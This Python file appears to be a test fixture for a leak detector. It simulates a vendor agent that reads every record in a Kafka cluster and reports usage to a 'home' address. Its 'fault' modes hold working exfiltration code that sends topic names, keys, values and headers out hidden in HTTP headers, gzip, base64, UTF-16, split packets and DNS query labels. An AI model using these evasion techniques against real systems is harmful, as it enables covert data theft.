"""The stand-in vendor's agent: reads its cluster and phones home. A program of its own, so that its packets are real ones.

Its orders come as JSON on standard input: `kafka` (client settings), `home` (address, port), `second` (the same), `fault` (what it
does beyond sending counts; empty: nothing).
"""

import base64
import gzip
import hashlib
import json
import socket
import struct
import sys
import time

from confluent_kafka import OFFSET_BEGINNING, Consumer, KafkaError, TopicPartition

OWN_ADDRESS = "127.0.0.1"


def read_cluster(settings):
    """Topic names, and every record in them, as an agent with the platform's rights sees them."""
    consumer = Consumer({**settings, "group.id": "agent", "enable.auto.commit": False, "enable.partition.eof": True})
    topics = {name: topic for name, topic in consumer.list_topics(timeout=30).topics.items() if not name.startswith("__")}
    parts = [TopicPartition(name, number, OFFSET_BEGINNING) for name, topic in topics.items() for number in topic.partitions]
    consumer.assign(parts)
    records, ends, deadline = [], 0, time.monotonic() + 30
    while ends < len(parts) and time.monotonic() < deadline:
        message = consumer.poll(1)
        if message is None:
            continue
        if message.error() is None:
            records.append(message)
        elif message.error().code() == KafkaError._PARTITION_EOF:
            ends += 1
    consumer.close()
    assert ends == len(parts), "the cluster was not read to its end"
    return sorted(topics), records


def post(to, body, headers=""):
    head = f"POST /v1/usage HTTP/1.1\r\nHost: {to[0]}\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
    return head.encode() + body


def send(to, *pieces):
    with socket.create_connection(to, 10, source_address=(OWN_ADDRESS, 0)) as home:
        home.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces:
            home.sendall(piece)
            time.sleep(0.05)
        home.shutdown(socket.SHUT_WR)
        home.recv(1000)


def split(home, topics):
    """Every name cut in two packets."""
    whole = post(home, json.dumps(topics).encode())
    cuts = [0, *(whole.index(name.encode()) + len(name) // 2 for name in topics), len(whole)]
    return [whole[a:b] for a, b in zip(cuts, cuts[1:])]


def look_up(home, topics):
    """Each name as a label of a name asked for."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.bind((OWN_ADDRESS, 0))
        for name in topics:
            labels = b"".join(bytes([len(one)]) + one for one in (name.encode()[:63], b"vendor", b"example"))
            asking.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1), (home[0], 53))


def phone_home(orders):
    home, fault = tuple(orders["home"]), orders["fault"]
    topics, records = read_cluster(orders["kafka"])
    send(home, post(home, json.dumps({"topics": len(topics), "records": len(records)}).encode()))
    names = json.dumps(topics).encode()
    keys = b"".join(one.key() or b"" for one in records)
    values = b"".join(one.value() or b"" for one in records)
    headers = "".join(f"{name}={value!r};" for one in records for name, value in one.headers() or [])
    digests = [hashlib.sha256(name.encode()).hexdigest()[:16] for name in topics]
    pieces = {
        "name_in_header": lambda: [post(home, b"{}", f"X-Topics: {','.join(topics)}\r\n")],
        "name_in_clear": lambda: [post(home, names)],
        "name_gzipped": lambda: [post(home, gzip.compress(names), "Content-Encoding: gzip\r\n")],
        "name_split_over_packets": lambda: split(home, topics),
        "name_as_plain_digest": lambda: [post(home, json.dumps(digests).encode())],
        "value_in_base64": lambda: [post(home, base64.b64encode(values))],
        "key_in_gzip_in_base64": lambda: [post(home, base64.b64encode(gzip.compress(b"k" * 40 + keys)))],
        "record_header_in_utf16": lambda: [post(home, headers.encode("utf-16-le"))],
    }
    if fault in pieces:
        send(home, *pieces[fault]())
    elif fault == "second_path":
        second = tuple(orders["second"])
        send(second, post(second, b"{}"))
    elif fault == "name_looked_up":
        look_up(home, topics)
    elif fault:
        sys.exit(f"unknown fault {fault}")


if __name__ == "__main__":
    phone_home(json.load(sys.stdin))
